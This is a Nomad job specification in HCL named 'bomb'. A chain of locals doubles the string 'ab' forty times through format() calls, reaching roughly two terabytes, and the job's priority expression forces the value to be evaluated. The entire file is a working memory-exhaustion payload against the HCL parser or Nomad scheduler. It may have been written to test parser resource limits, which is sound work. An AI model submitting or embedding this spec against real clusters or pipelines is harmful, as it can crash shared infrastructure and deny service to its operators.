locals {
  f0 = "ab"
  f1 = format("%s%s", local.f0, local.f0)
  f2 = format("%s%s", local.f1, local.f1)
  f3 = format("%s%s", local.f2, local.f2)
  f4 = format("%s%s", local.f3, local.f3)
  f5 = format("%s%s", local.f4, local.f4)
  f6 = format("%s%s", local.f5, local.f5)
  f7 = format("%s%s", local.f6, local.f6)
  f8 = format("%s%s", local.f7, local.f7)
  f9 = format("%s%s", local.f8, local.f8)
  f10 = format("%s%s", local.f9, local.f9)
  f11 = format("%s%s", local.f10, local.f10)
  f12 = format("%s%s", local.f11, local.f11)
  f13 = format("%s%s", local.f12, local.f12)
  f14 = format("%s%s", local.f13, local.f13)
  f15 = format("%s%s", local.f14, local.f14)
  f16 = format("%s%s", local.f15, local.f15)
  f17 = format("%s%s", local.f16, local.f16)
  f18 = format("%s%s", local.f17, local.f17)
  f19 = format("%s%s", local.f18, local.f18)
  f20 = format("%s%s", local.f19, local.f19)
  f21 = format("%s%s", local.f20, local.f20)
  f22 = format("%s%s", local.f21, local.f21)
  f23 = format("%s%s", local.f22, local.f22)
  f24 = format("%s%s", local.f23, local.f23)
  f25 = format("%s%s", local.f24, local.f24)
  f26 = format("%s%s", local.f25, local.f25)
  f27 = format("%s%s", local.f26, local.f26)
  f28 = format("%s%s", local.f27, local.f27)
  f29 = format("%s%s", local.f28, local.f28)
  f30 = format("%s%s", local.f29, local.f29)
  f31 = format("%s%s", local.f30, local.f30)
  f32 = format("%s%s", local.f31, local.f31)
  f33 = format("%s%s", local.f32, local.f32)
  f34 = format("%s%s", local.f33, local.f33)
  f35 = format("%s%s", local.f34, local.f34)
  f36 = format("%s%s", local.f35, local.f35)
  f37 = format("%s%s", local.f36, local.f36)
  f38 = format("%s%s", local.f37, local.f37)
  f39 = format("%s%s", local.f38, local.f38)
  f40 = format("%s%s", local.f39, local.f39)
}

job "bomb" {
  datacenters = ["dc1"]
  priority    = length(local.f40) > 0 ? 50 : 50
  group "g" {
    count = 1
    task "t" {
      driver = "docker"
      resources {
        cpu    = 100
        memory = 64
      }
    }
  }
}
